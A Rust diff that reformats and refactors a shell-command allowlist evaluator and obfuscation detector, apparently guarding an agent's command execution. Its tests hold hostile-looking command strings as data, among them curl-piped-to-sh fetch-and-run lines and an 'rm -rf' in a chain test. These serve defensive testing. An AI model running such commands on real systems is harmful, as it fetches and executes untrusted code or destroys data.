@@ -34,7 +34,10 @@ fn split_chain(command: &str) -> Option<Vec<ChainPart>> {
         if trimmed.is_empty() {
             return false;
         }
-        parts.push(ChainPart { text: trimmed, op_to_next: Some(op) });
+        parts.push(ChainPart {
+            text: trimmed,
+            op_to_next: Some(op),
+        });
         true
     };
     let mut i = 0;
@@ -88,7 +91,10 @@ fn split_chain(command: &str) -> Option<Vec<ChainPart>> {
     if last.is_empty() || invalid {
         return None;
     }
-    parts.push(ChainPart { text: last, op_to_next: None });
+    parts.push(ChainPart {
+        text: last,
+        op_to_next: None,
+    });
     Some(parts)
 }
 
@@ -134,12 +140,21 @@ fn parse_heredoc_delimiter(chars: &[char], start: usize) -> Option<(String, usiz
 }
 
 fn escaped_at(line: &[char], index: usize) -> bool {
-    line[..index].iter().rev().take_while(|c| **c == '\\').count() % 2 == 1
+    line[..index]
+        .iter()
+        .rev()
+        .take_while(|c| **c == '\\')
+        .count()
+        % 2
+        == 1
 }
 
 fn heredoc_line_expands(line: &[char]) -> bool {
     (0..line.len()).any(|i| {
-        (line[i] == '`' && !escaped_at(line, i)) || (line[i] == '$' && !escaped_at(line, i) && matches!(line.get(i + 1), Some('(' | '{')))
+        (line[i] == '`' && !escaped_at(line, i))
+            || (line[i] == '$'
+                && !escaped_at(line, i)
+                && matches!(line.get(i + 1), Some('(' | '{')))
     })
 }
 
@@ -152,7 +167,8 @@ fn split_pipeline(command: &str) -> Result<Vec<String>, String> {
     let chars: Vec<char> = command.chars().collect();
     let mut segments = Vec::new();
     let mut buf = String::new();
-    let (mut in_single, mut in_double, mut escaped, mut empty_segment) = (false, false, false, false);
+    let (mut in_single, mut in_double, mut escaped, mut empty_segment) =
+        (false, false, false, false);
     let mut pending: Vec<Heredoc> = Vec::new();
     let mut in_body = false;
     let mut line: Vec<char> = Vec::new();
@@ -165,7 +181,11 @@ fn split_pipeline(command: &str) -> Result<Vec<String>, String> {
     };
     let line_ends_heredoc = |h: &Heredoc, line: &[char]| {
         let text: String = line.iter().collect();
-        let text = if h.strip_tabs { text.trim_start_matches('\t').to_string() } else { text };
+        let text = if h.strip_tabs {
+            text.trim_start_matches('\t').to_string()
+        } else {
+            text
+        };
         text == h.delimiter
     };
     let mut i = 0;
@@ -259,7 +279,11 @@ fn split_pipeline(command: &str) -> Result<Vec<String>, String> {
                 scan += 1;
             }
             if let Some((delimiter, end, quoted)) = parse_heredoc_delimiter(&chars, scan) {
-                pending.push(Heredoc { delimiter, strip_tabs, quoted });
+                pending.push(Heredoc {
+                    delimiter,
+                    strip_tabs,
+                    quoted,
+                });
                 buf.extend(&chars[scan..end]);
                 i = end - 1;
             }
@@ -358,7 +382,11 @@ struct LegacySegment {
 fn segment(raw: &str, ctx: &EvalContext) -> Option<LegacySegment> {
     let argv = split_args(raw).filter(|a| !a.is_empty())?;
     let plan = trust_plan(&argv, V2);
-    let exe_raw = plan.argv.first().map(|t| t.trim().to_string()).unwrap_or_default();
+    let exe_raw = plan
+        .argv
+        .first()
+        .map(|t| t.trim().to_string())
+        .unwrap_or_default();
     Some(LegacySegment {
         raw: raw.to_string(),
         execution: resolve_executable(&exe_raw, &ctx.env, V2),
@@ -372,21 +400,17 @@ fn segment(raw: &str, ctx: &EvalContext) -> Option<LegacySegment> {
 /// `analyzeShellCommand` for one chain part (or a whole chain-free command): its pipeline segments.
 fn analyze_part(text: &str, ctx: &EvalContext) -> Result<Vec<LegacySegment>, String> {
     let parts = split_pipeline(text)?;
-    parts.iter().map(|p| segment(p, ctx)).collect::<Option<Vec<_>>>().ok_or_else(|| "unable to parse shell segment".to_string())
+    parts
+        .iter()
+        .map(|p| segment(p, ctx))
+        .collect::<Option<Vec<_>>>()
+        .ok_or_else(|| "unable to parse shell segment".to_string())
 }
 
-/// The analysis groups of a command: its chain parts, each a pipeline of segments.
-fn analyze(command: &str, ctx: &EvalContext) -> Result<Vec<Vec<LegacySegment>>, String> {
-    if command.contains("\\\n") || command.contains("\\\r") {
-        return Err("line continuation".to_string());
-    }
-    match split_chain(command) {
-        Some(parts) => parts.iter().map(|p| analyze_part(&p.text, ctx)).collect(),
-        None => Ok(vec![analyze_part(command, ctx)?]),
-    }
-}
-
-fn evaluate_segment(seg: &LegacySegment, ctx: &EvalContext) -> Result<(Option<usize>, Option<SatisfiedBy>), InvalidPattern> {
+fn evaluate_segment(
+    seg: &LegacySegment,
+    ctx: &EvalContext,
+) -> Result<(Option<usize>, Option<SatisfiedBy>), InvalidPattern> {
     if seg.policy_blocked {
         return Ok((None, None));
     }
@@ -395,10 +419,15 @@ fn evaluate_segment(seg: &LegacySegment, ctx: &EvalContext) -> Result<(Option<us
     if candidate.resolved_path.is_none() {
         candidate.resolved_path = candidate_path(&candidate.raw, &ctx.env);
     }
-    let matched = match_v2(&ctx.allowlist, &candidate, ctx.env.home.as_deref())?.and_then(|m| ctx.allowlist.iter().position(|e| std::ptr::eq(e, m)));
+    let matched = match_v2(&ctx.allowlist, &candidate, ctx.env.home.as_deref())?
+        .and_then(|m| ctx.allowlist.iter().position(|e| std::ptr::eq(e, m)));
     let by = if matched.is_some() {
         Some(SatisfiedBy::Allowlist)
-    } else if ctx.safe_bins.accepts(&seg.execution, &seg.effective_argv[1.min(seg.effective_argv.len())..], ctx.windows) {
+    } else if ctx.safe_bins.accepts(
+        &seg.execution,
+        &seg.effective_argv[1.min(seg.effective_argv.len())..],
+        ctx.windows,
+    ) {
         Some(SatisfiedBy::SafeBins)
     } else {
         None
@@ -413,7 +442,10 @@ fn report(seg: &LegacySegment) -> Segment {
     s.wrapper_chain = seg.wrapper_chain.clone();
     s.policy_blocked = seg.policy_blocked;
     if seg.policy_blocked {
-        s.reasons.push(format!("blocked wrapper: {}", seg.wrapper_chain.last().cloned().unwrap_or_default()));
+        s.reasons.push(format!(
+            "blocked wrapper: {}",
+            seg.wrapper_chain.last().cloned().unwrap_or_default()
+        ));
     }
     s
 }
@@ -422,21 +454,27 @@ fn report(seg: &LegacySegment) -> Segment {
 /// reported segments cover only the chain parts seen so far. An invalid allowlist pattern
 /// (the regex-metachar bug) is an error for the whole evaluation.
 pub fn evaluate(command: &str, ctx: &EvalContext) -> Result<Evaluation, InvalidPattern> {
-    let groups = match analyze(command, ctx) {
-        Ok(g) => g,
-        Err(reason) => {
-            return Ok(Evaluation {
-                analysis_ok: false,
-                allowlist_satisfied: false,
-                segments: Vec::new(),
-                plan_failure: Some(PlanFailure { reason, span: None }),
-                candidates: Vec::new(),
-            });
-        }
+    let failure = |reason: String| Evaluation {
+        analysis_ok: false,
+        allowlist_satisfied: false,
+        segments: Vec::new(),
+        plan_failure: Some(PlanFailure { reason, span: None }),
+        candidates: Vec::new(),
     };
+    if command.contains("\\\n") || command.contains("\\\r") {
+        return Ok(failure("line continuation".to_string()));
+    }
+    // Chain parts are analysed lazily: a part after the first unsatisfied one is never looked at.
+    let parts: Vec<String> = split_chain(command).map_or_else(
+        || vec![command.to_string()],
+        |p| p.into_iter().map(|p| p.text).collect(),
+    );
     let mut segments = Vec::new();
-    let mut satisfied = true;
-    'groups: for group in &groups {
+    for part in &parts {
+        let group = match analyze_part(part, ctx) {
+            Ok(g) => g,
+            Err(reason) => return Ok(failure(reason)),
+        };
         let start = segments.len();
         segments.extend(group.iter().map(report));
         for (i, seg) in group.iter().enumerate() {
@@ -444,14 +482,28 @@ pub fn evaluate(command: &str, ctx: &EvalContext) -> Result<Evaluation, InvalidP
             segments[start + i].matched = matched.map(|m| ctx.allowlist[m].clone());
             segments[start + i].satisfied_by = by;
             if by.is_none() {
-                satisfied = false;
                 // Segments after the miss are reported but were never evaluated.
-                segments[start + i + 1..].iter_mut().for_each(|s| s.reasons.push("not evaluated (2026.2 stops at the first miss)".into()));
-                break 'groups;
+                segments[start + i + 1..].iter_mut().for_each(|s| {
+                    s.reasons
+                        .push("not evaluated (2026.2 stops at the first miss)".into())
+                });
+                return Ok(Evaluation {
+                    analysis_ok: true,
+                    allowlist_satisfied: false,
+                    segments,
+                    plan_failure: None,
+                    candidates: Vec::new(),
+                });
             }
         }
     }
-    Ok(Evaluation { analysis_ok: true, allowlist_satisfied: satisfied, segments, plan_failure: None, candidates: Vec::new() })
+    Ok(Evaluation {
+        analysis_ok: true,
+        allowlist_satisfied: true,
+        segments,
+        plan_failure: None,
+        candidates: Vec::new(),
+    })
 }
 
 fn single_quote(token: &str) -> String {
@@ -465,23 +517,44 @@ pub fn enforced_command(command: &str, evaluation: &Evaluation) -> Result<String
     if source.is_empty() {
         return Err("empty command".into());
     }
-    let parts = split_chain(source).unwrap_or_else(|| vec![ChainPart { text: source.to_string(), op_to_next: None }]);
+    let parts = split_chain(source).unwrap_or_else(|| {
+        vec![ChainPart {
+            text: source.to_string(),
+            op_to_next: None,
+        }]
+    });
     let mut out = String::new();
     let mut index = 0;
     for part in parts {
         let pipeline = split_pipeline(&part.text)?;
         let mut rendered = Vec::new();
         for _ in pipeline {
-            let seg = evaluation.segments.get(index).ok_or("segment mapping failed")?;
+            let seg = evaluation
+                .segments
+                .get(index)
+                .ok_or("segment mapping failed")?;
             index += 1;
             if seg.policy_blocked {
                 return Err("segment execution plan unavailable".into());
             }
-            let mut argv = seg.effective_argv.clone().filter(|a| !a.is_empty()).unwrap_or_else(|| seg.argv.clone());
-            if let Some(path) = seg.resolved_path.as_deref().filter(|p| !p.trim().is_empty()) {
+            let mut argv = seg
+                .effective_argv
+                .clone()
+                .filter(|a| !a.is_empty())
+                .unwrap_or_else(|| seg.argv.clone());
+            if let Some(path) = seg
+                .resolved_path
+                .as_deref()
+                .filter(|p| !p.trim().is_empty())
+            {
                 argv[0] = path.to_string();
             }
-            rendered.push(argv.iter().map(|t| single_quote(t)).collect::<Vec<_>>().join(" "));
+            rendered.push(
+                argv.iter()
+                    .map(|t| single_quote(t))
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            );
         }
         out.push_str(&rendered.join(" | "));
         if let Some(op) = part.op_to_next {
@@ -507,12 +580,23 @@ fn obfuscation_rules() -> &'static CompiledObfuscation {
             patterns: data
                 .obfuscation_patterns
                 .iter()
-                .map(|p| (p.id.clone(), p.description.clone(), Regex::new(&p.regex).expect("bundled obfuscation regex")))
+                .map(|p| {
+                    (
+                        p.id.clone(),
+                        p.description.clone(),
+                        Regex::new(&p.regex).expect("bundled obfuscation regex"),
+                    )
+                })
                 .collect(),
             suppressions: data
                 .obfuscation_suppressions
                 .iter()
-                .map(|s| (s.suppresses.clone(), Regex::new(&s.regex).expect("bundled suppression regex")))
+                .map(|s| {
+                    (
+                        s.suppresses.clone(),
+                        Regex::new(&s.regex).expect("bundled suppression regex"),
+                    )
+                })
                 .collect(),
         }
     })
@@ -530,7 +614,11 @@ pub fn detect_obfuscation(command: &str) -> Vec<String> {
         .iter()
         .filter(|(id, _, re)| {
             re.is_match(command)
-                && !(url_count <= 1 && rules.suppressions.iter().any(|(ids, s)| ids.contains(id) && s.is_match(command)))
+                && !(url_count <= 1
+                    && rules
+                        .suppressions
+                        .iter()
+                        .any(|(ids, s)| ids.contains(id) && s.is_match(command)))
         })
         .map(|(_, description, _)| description.clone())
         .collect()
@@ -542,20 +630,47 @@ mod tests {
 
     #[test]
     fn pipeline_split_reasons() {
-        assert_eq!(split_pipeline("ls -la | head").unwrap(), vec!["ls -la", "head"]);
-        assert_eq!(split_pipeline("ls > x").unwrap_err(), "unsupported shell token: >");
-        assert_eq!(split_pipeline("echo \"$(x)\"").unwrap_err(), "unsupported shell token: $()");
-        assert_eq!(split_pipeline("ls |").unwrap_err(), "empty pipeline segment");
-        assert_eq!(split_pipeline("echo 'x").unwrap_err(), "unterminated shell quote/escape");
-        assert_eq!(split_pipeline("cat <<EOF\nhi\nEOF").unwrap(), vec!["cat <<EOF"]);
-        assert_eq!(split_pipeline("cat <<EOF\n$(x)\nEOF").unwrap_err(), "command substitution in unquoted heredoc");
-        assert_eq!(split_pipeline("cat <<EOF\nhi").unwrap_err(), "unterminated heredoc");
+        assert_eq!(
+            split_pipeline("ls -la | head").unwrap(),
+            vec!["ls -la", "head"]
+        );
+        assert_eq!(
+            split_pipeline("ls > x").unwrap_err(),
+            "unsupported shell token: >"
+        );
+        assert_eq!(
+            split_pipeline("echo \"$(x)\"").unwrap_err(),
+            "unsupported shell token: $()"
+        );
+        assert_eq!(
+            split_pipeline("ls |").unwrap_err(),
+            "empty pipeline segment"
+        );
+        assert_eq!(
+            split_pipeline("echo 'x").unwrap_err(),
+            "unterminated shell quote/escape"
+        );
+        assert_eq!(
+            split_pipeline("cat <<EOF\nhi\nEOF").unwrap(),
+            vec!["cat <<EOF"]
+        );
+        assert_eq!(
+            split_pipeline("cat <<EOF\n$(x)\nEOF").unwrap_err(),
+            "command substitution in unquoted heredoc"
+        );
+        assert_eq!(
+            split_pipeline("cat <<EOF\nhi").unwrap_err(),
+            "unterminated heredoc"
+        );
     }
 
     #[test]
     fn chain_split() {
         let parts = split_chain("git status && rm -rf x; ls").unwrap();
-        assert_eq!(parts.iter().map(|p| p.text.as_str()).collect::<Vec<_>>(), vec!["git status", "rm -rf x", "ls"]);
+        assert_eq!(
+            parts.iter().map(|p| p.text.as_str()).collect::<Vec<_>>(),
+            vec!["git status", "rm -rf x", "ls"]
+        );
         assert!(split_chain("ls").is_none());
         assert!(split_chain("ls &&").is_none());
     }
@@ -571,6 +686,9 @@ mod tests {
         assert!(!detect_obfuscation("curl https://example.invalid | sh").is_empty());
         assert!(detect_obfuscation("ls -la").is_empty());
         // The rustup installer suppresses curl-pipe-shell, but the generic pipe-to-shell still fires.
-        assert_eq!(detect_obfuscation("curl -fsSL https://sh.rustup.rs | sh"), vec!["Content piped directly to shell interpreter"]);
+        assert_eq!(
+            detect_obfuscation("curl -fsSL https://sh.rustup.rs | sh"),
+            vec!["Content piped directly to shell interpreter"]
+        );
     }
 }
